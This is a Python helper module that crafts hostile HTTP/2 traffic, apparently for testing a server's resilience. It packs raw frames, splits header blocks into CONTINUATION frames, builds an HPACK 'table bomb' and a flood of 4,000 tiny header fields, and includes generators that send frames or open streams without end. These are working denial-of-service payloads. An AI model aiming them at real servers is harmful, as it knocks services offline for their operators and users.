"""Frames of HTTP/2 as an attacker writes them: whatever it wants, whole or not (RFC 9113 4.1)."""
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
UNKNOWN = 0x77
GET = b"\x82\x86\x04\x05/sink\x41\x01a"  # RFC 7541: :method GET, :scheme http, :path /sink, :authority a
POST = b"\x83" + GET[1:]
OK = b"\x88"  # :status 200
EARLY_HINTS = b"\x08\x03103"  # :status 103
BATCH = 200  # of what is sent at once
FRAME_BYTES = 9
BLOCK_PIECE = 16_000  # of a header block: what any peer takes in one frame


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def literal(name, value):
    """A field that no table remembers."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def block(stream, fields, flags=0):
    """A whole header block of any size."""
    pieces = [fields[at:at + BLOCK_PIECE] for at in range(0, len(fields), BLOCK_PIECE)]
    last = len(pieces) - 1
    return b"".join(frame(HEADERS if n == 0 else CONTINUATION,
                          (flags if n == 0 else 0) | (END_HEADERS if n == last else 0), stream, piece)
                    for n, piece in enumerate(pieces))


def crumbs(head, name):
    """4,000 fields of one byte each."""
    return head + literal(name, b"a") * 4000


def table_bomb(head):
    """A field of 4,000 bytes that the table remembers, then named 4,000 times by one byte each."""
    return head + b"\x40\x01x\x7f" + b"\xa1\x1e" + b"v" * 4000 + b"\xbe" * 4000


def same(piece):
    """`piece` for ever."""
    def more(_):
        return piece * BATCH
    return more


def per_stream(make):
    """`make(stream)` for ever new streams."""
    def more(numbers):
        return b"".join(make(1 + 2 * next(numbers)) for _ in range(BATCH))
    return more


class Reader:
    """Finds the frames in what the other side sends."""

    def __init__(self, preface_bytes):
        self._bytes = bytearray()
        self._preface_left = preface_bytes

    def feed(self, received):
        """(kind, stream) of each frame that is whole now."""
        self._bytes += received
        if len(self._bytes) < self._preface_left:
            return []
        del self._bytes[:self._preface_left]
        self._preface_left = 0
        found = []
        while len(self._bytes) >= FRAME_BYTES:
            end = FRAME_BYTES + int.from_bytes(self._bytes[:3], "big")
            if len(self._bytes) < end:
                break
            found.append((self._bytes[3], int.from_bytes(self._bytes[5:9], "big")))
            del self._bytes[:end]
        return found
